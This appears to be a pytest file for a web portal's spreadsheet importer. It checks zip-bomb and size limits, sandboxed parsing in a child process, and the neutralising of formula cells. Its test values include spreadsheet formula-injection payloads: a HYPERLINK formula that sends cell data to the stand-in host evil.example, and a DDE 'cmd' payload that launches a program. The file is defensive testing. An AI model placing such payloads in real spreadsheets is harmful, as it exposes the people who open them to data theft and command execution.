"""portal.spreadsheets: limits checked before parsing, parsing in a limited process, and
cells that no spreadsheet runs as formulas (issue 14)."""

import io
import zipfile
from datetime import datetime

import pytest

from portal.spreadsheets import (
    SpreadsheetRefused,
    read_rows,
    safe_cell,
    safe_row,
    unneutralised,
)

from .spreadsheet_files import MB, SHEET, shared_strings_bomb, sheet_bomb, xlsx


def refusal(kind, content, **kwargs) -> SpreadsheetRefused:
    with pytest.raises(SpreadsheetRefused) as refused:
        read_rows(kind, content, **kwargs)
    return refused.value


def test_an_xlsx_is_read_in_a_separate_process_with_its_types():
    content = xlsx(("月份", "实物量", "名称"), (datetime(2020, 1, 1), 12.5, "甲"), (None, 3, None))
    rows = read_rows("xlsx", content)
    assert rows == [["月份", "实物量", "名称"], [datetime(2020, 1, 1), 12.5, "甲"], [None, 3]]


def test_a_sheet_that_decompresses_huge_is_refused_before_parsing():
    bomb = sheet_bomb(megabytes=200)
    assert len(bomb) < 400 * 1024  # the 322 KB file, or smaller
    with zipfile.ZipFile(io.BytesIO(bomb)) as archive:
        assert archive.getinfo(SHEET).file_size > 200 * MB
    refused = refusal("xlsx", bomb)
    assert refused.code == "uncompressed"
    assert "疑似压缩炸弹" in refused.reason


def test_a_part_compressed_beyond_the_ratio_is_refused(settings):
    settings.SPREADSHEET_MAX_UNCOMPRESSED_BYTES = 500 * MB
    refused = refusal("xlsx", sheet_bomb(megabytes=20))
    assert refused.code == "ratio"
    assert SHEET in refused.reason


def test_too_many_zip_entries_are_refused(settings):
    settings.SPREADSHEET_MAX_ZIP_ENTRIES = 5
    assert refusal("xlsx", xlsx(("a", "b"))).code == "entries"


def test_a_runaway_parse_ends_the_child_not_the_worker(settings):
    # The directory checks are opened wide, so only the child's limits stand in the way:
    # a shared-string table of millions of entries, loaded whole by openpyxl.
    settings.SPREADSHEET_MAX_UNCOMPRESSED_BYTES = 10_000 * MB
    settings.SPREADSHEET_MAX_RATIO = 10**6
    settings.SPREADSHEET_SECONDS = 2
    settings.SPREADSHEET_MEMORY_MB = 150
    refused = refusal("xlsx", shared_strings_bomb(count=3_000_000))
    assert refused.code in {"time", "resources"}
    # And this process still reads a good file afterwards.
    assert read_rows("xlsx", xlsx(("a",), ("b",))) == [["a"], ["b"]]


def test_row_and_column_limits(settings):
    settings.SPREADSHEET_MAX_ROWS = 3
    settings.SPREADSHEET_MAX_COLUMNS = 4
    rows = [("h",), *[(str(n),) for n in range(4)]]
    assert refusal("xlsx", xlsx(*rows)).code == "rows"
    assert refusal("csv", "\n".join(r[0] for r in rows).encode()).code == "rows"
    assert read_rows("xlsx", xlsx(*rows[:4])) == [["h"], ["0"], ["1"], ["2"]]
    assert refusal("xlsx", xlsx(("a", "b", "c", "d", "e"))).code == "columns"
    assert refusal("csv", b"a,b,c,d,e\n").code == "columns"
    # An import may ask for fewer rows than the setting, never more.
    assert refusal("csv", b"h\n1\n2\n", max_rows=1).code == "rows"
    assert refusal("csv", b"h\n1\n2\n3\n4\n", max_rows=100).code == "rows"


def test_a_cell_far_away_is_refused_without_reading_a_million_rows(settings):
    content = xlsx(("a",))
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet = archive.read(SHEET).decode()
    far = sheet.replace(
        "</sheetData>", '<row r="1048576"><c r="A1048576"><v>1</v></c></row></sheetData>'
    )
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(out, "w") as target:
        for entry in source.infolist():
            data = far.encode() if entry.filename == SHEET else source.read(entry.filename)
            target.writestr(entry, data)
    assert refusal("xlsx", out.getvalue()).code == "rows"


def test_size_and_damage_are_refused_with_their_reasons(settings):
    settings.SPREADSHEET_MAX_BYTES = 1000
    assert refusal("csv", b"a\n" * 600).code == "size"
    settings.SPREADSHEET_MAX_BYTES = 10 * MB
    assert refusal("xlsx", b"PK\x03\x04 not really a zip").code == "unreadable"
    assert refusal("csv", b"\xff\xfe\xfa\xfb" * 3).code in {"encoding", "unreadable"}
    assert refusal("pdf", b"%PDF").code == "type"


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1",
        "\r=1",
    ],
)
def test_formula_cells_are_neutralised(value):
    assert safe_cell(value) == "'" + value
    assert unneutralised(safe_cell(value)) == value


@pytest.mark.parametrize("value", [-5, -0.25, "-5", "-0.25", "+3", "-1e3", "一号", "", None, 0])
def test_numbers_and_plain_text_are_left_alone(value):
    assert safe_cell(value) == value


def test_safe_row():
    assert safe_row(["=1", 2, "-3"]) == ["'=1", 2, "-3"]
